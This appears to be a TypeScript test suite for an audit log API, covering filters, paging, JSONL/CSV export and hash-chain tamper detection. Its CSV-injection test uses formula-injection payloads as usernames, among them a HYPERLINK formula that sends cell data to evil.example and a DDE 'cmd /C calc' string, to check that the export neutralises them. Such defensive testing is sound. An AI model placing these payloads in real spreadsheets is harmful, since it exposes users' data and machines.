// The audit log through HTTP: filters, pages, export, and tamper detection on both backends.
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { sql } from 'kysely';
import { backends } from '../support/pg.ts';
import { startTestServer, type TestServer } from '../support/server.ts';

for (const backend of backends) {
  describe(`audit log (${backend})`, () => {
    let s: TestServer;
    let admin: string;
    before(async () => {
      s = await startTestServer(backend);
      admin = await s.login();
      for (let i = 0; i < 7; i++) {
        assert.equal((await s.api('POST', '/api/v1/users', { token: admin, body: { name: `u${i}`, password: 'password-123' } })).status, 201);
      }
    });
    after(() => s?.close());

    it('records every change with actor, address, action, resource, outcome and request id', async () => {
      const r = await s.api('POST', '/api/v1/tokens', { token: admin, body: { name: 'audited' }, headers: { 'x-request-id': 'req-audit-1' } });
      assert.equal(r.headers.get('x-request-id'), 'req-audit-1');
      const list = await s.api('GET', '/api/v1/audit?resource=tokens&action=create', { token: admin });
      const rec = list.body.items.find((i: { requestId: string }) => i.requestId === 'req-audit-1');
      assert.ok(rec);
      assert.equal(rec.actor, 'admin');
      assert.equal(rec.outcome, 'success');
      assert.equal(rec.name, r.body.id);
      assert.equal(rec.sourceIp, '127.0.0.1');
    });

    it('filters by actor, resource, action and time, newest first, in pages', async () => {
      const all = await s.api('GET', '/api/v1/audit?resource=users&action=create', { token: admin });
      const names = all.body.items.map((i: { name: string }) => i.name);
      assert.deepEqual(names.slice(0, 7), ['u6', 'u5', 'u4', 'u3', 'u2', 'u1', 'u0']);
      const seen: string[] = [];
      let cont = '';
      do {
        const page = await s.api('GET', `/api/v1/audit?resource=users&action=create&limit=3${cont ? `&continue=${cont}` : ''}`, { token: admin });
        assert.ok(page.body.items.length <= 3);
        seen.push(...page.body.items.map((i: { name: string }) => i.name));
        cont = page.body.metadata.continue ?? '';
      } while (cont);
      assert.deepEqual(seen, names);
      const future = await s.api('GET', `/api/v1/audit?since=${encodeURIComponent(new Date(Date.now() + 60_000).toISOString())}`, { token: admin });
      assert.equal(future.body.items.length, 0);
      const byActor = await s.api('GET', '/api/v1/audit?actor=system', { token: admin });
      assert.ok(byActor.body.items.every((i: { actor: string }) => i.actor === 'system'));
      assert.ok(byActor.body.items.length >= 1);
    });

    it('exports JSON Lines and CSV, oldest first', async () => {
      const jl = await s.api('GET', '/api/v1/audit/export?format=jsonl&resource=users', { token: admin });
      assert.equal(jl.status, 200);
      const lines = String(jl.body).trim().split('\n').map((l) => JSON.parse(l));
      assert.ok(lines.length >= 8);
      assert.ok(lines.every((l, i) => i === 0 || l.seq > lines[i - 1].seq));
      const csv = await s.api('GET', '/api/v1/audit/export?format=csv&resource=users', { token: admin });
      const rows = String(csv.body).trim().split('\n');
      assert.equal(rows[0], 'seq,time,actor,sourceIp,action,resource,name,tenant,outcome,code,requestId,detail,hash');
      assert.equal(rows.length, lines.length + 1);
    });

    it('exports names that look like spreadsheet formulas as text (CSV injection)', async () => {
      const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1', '-2+3', '\t=1+1', '\r=1+1'];
      for (const username of hostile) {
        assert.equal((await s.api('POST', '/api/v1/login', { body: { username, password: 'wrong-password' } })).status, 401);
      }
      const csv = await s.api('GET', '/api/v1/audit/export?format=csv&resource=sessions&outcome=failure', { token: admin });
      assert.equal(csv.status, 200);
      const rows = parseCsv(String(csv.body));
      const actor = rows[0].indexOf('actor');
      const name = rows[0].indexOf('name');
      for (const username of hostile) {
        const row = rows.find((r) => r[actor] === `'${username}`);
        assert.ok(row, `a row for ${JSON.stringify(username)}, as text: ${String(csv.body)}`);
        assert.equal(row[name], `'${username}`);
      }
      for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)}`);
    });

    it('verifies an intact chain', async () => {
      const v = await s.api('GET', '/api/v1/audit/verify', { token: admin });
      assert.equal(v.body.ok, true);
      assert.ok(v.body.checked >= 9);
    });

    it('finds an altered, a deleted and an inserted record, and a cut tail', async () => {
      const db = s.server.deps.db.kysely;
      const verify = async () => (await s.api('GET', '/api/v1/audit/verify', { token: admin })).body;
      const target = 4;
      const original = await db.selectFrom('audit_log').selectAll().where('seq', '=', target).executeTakeFirstOrThrow();

      await db.updateTable('audit_log').set({ actor: 'mallory' }).where('seq', '=', target).execute();
      let v = await verify();
      assert.equal(v.ok, false);
      assert.deepEqual([v.firstBad.seq, v.firstBad.problem], [target, 'altered']);
      await db.updateTable('audit_log').set({ actor: original.actor }).where('seq', '=', target).execute();
      assert.equal((await verify()).ok, true);

      await db.deleteFrom('audit_log').where('seq', '=', target).execute();
      v = await verify();
      assert.deepEqual([v.firstBad.seq, v.firstBad.problem], [target, 'deleted']);
      await db.insertInto('audit_log').values(original).execute();
      assert.equal((await verify()).ok, true);

      const maxSeq = Number((await sql<{ m: number }>`select max(seq) as m from audit_log`.execute(db)).rows[0].m);
      await db.insertInto('audit_log').values({ ...original, seq: maxSeq + 1, actor: 'mallory', prev_hash: 'f'.repeat(64), hash: 'e'.repeat(64) }).execute();
      v = await verify();
      assert.deepEqual([v.firstBad.seq, v.firstBad.problem], [maxSeq + 1, 'inserted']);
      await db.deleteFrom('audit_log').where('seq', '=', maxSeq + 1).execute();
      assert.equal((await verify()).ok, true);

      const last = await db.selectFrom('audit_log').selectAll().where('seq', '=', maxSeq).executeTakeFirstOrThrow();
      await db.deleteFrom('audit_log').where('seq', '=', maxSeq).execute();
      v = await verify();
      assert.deepEqual([v.firstBad.seq, v.firstBad.problem], [maxSeq, 'deleted']);
      await db.insertInto('audit_log').values(last).execute();
      assert.equal((await verify()).ok, true);
    });

    it('keeps the chain linear under concurrent writers', async () => {
      await Promise.all(Array.from({ length: 20 }, (_, i) => s.api('POST', '/api/v1/tokens', { token: admin, body: { name: `c${i}` } })));
      const v = await s.api('GET', '/api/v1/audit/verify', { token: admin });
      assert.equal(v.body.ok, true, JSON.stringify(v.body));
    });
  });
}

/** Splits RFC 4180 CSV text into rows of cells (quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; } else cell += c;
  }
  if (cell !== '' || row.length) { row.push(cell); rows.push(row); }
  return rows;
}
